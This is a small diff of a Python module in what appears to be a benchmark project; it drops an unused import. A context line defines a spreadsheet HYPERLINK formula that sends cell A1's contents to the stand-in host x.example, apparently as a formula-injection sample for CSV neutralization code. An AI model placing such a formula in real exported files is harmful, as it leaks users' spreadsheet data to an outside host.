@@ -16,7 +16,7 @@ import cmkd_bench
 from cmkd_bench.data.media.catalogue import Skipped
 from cmkd_bench.data.media.preparing.skipped import write_skipped
 from cmkd_bench.experiment.csv_text import neutralized, original, read_rows, write_csv
-from cmkd_bench.experiment.files import read_json, write_json
+from cmkd_bench.experiment.files import read_json
 from cmkd_bench.experiment.record import read_plan
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"kd")'
